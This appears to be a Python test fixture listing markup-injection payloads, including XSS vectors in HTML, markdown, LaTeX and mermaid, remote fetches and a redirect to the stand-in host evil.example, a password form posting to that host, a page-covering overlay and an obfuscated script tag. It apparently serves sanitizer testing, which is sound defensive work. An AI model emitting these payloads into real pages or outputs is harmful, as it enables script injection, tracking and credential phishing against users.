"""Markup that tries to run, to fetch, to ask for a password or to cover the page."""

HOST = "http://evil.example"
RUN = "window.hacked=1"

PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<a href=javascript:{RUN}>click</a>",
    f"[click](javascript:{RUN})",
    f"[click](data:text/html,<script>{RUN}</script>)",
    f"<img src={HOST}/image.png>",
    f"![image]({HOST}/markdown.png)",
    f"<video src={HOST}/video.mp4 autoplay></video>",
    f"<div style='background:url({HOST}/style.png)'>x</div>",
    f"<style>@import '{HOST}/sheet.css'; body {{ display: none }}</style>",
    f"<link rel=stylesheet href={HOST}/link.css>",
    f"<meta http-equiv=refresh content='0;url={HOST}'>",
    f"<form action={HOST}><input type=password name=password></form>",
    "<div style='position:fixed;inset:0;background:red'>cover</div>",
    f"$$\\href{{javascript:{RUN}}}{{x}}$$ ${{{RUN}}} {{{{{RUN}}}}}",
    f'```mermaid\ngraph TD; A-->B; click A href "javascript:{RUN}"\n```',
    f"\u202e\u0000<scr\u200bipt>{RUN}</scr\u200bipt>\"'><img src=x onerror={RUN}>",
)
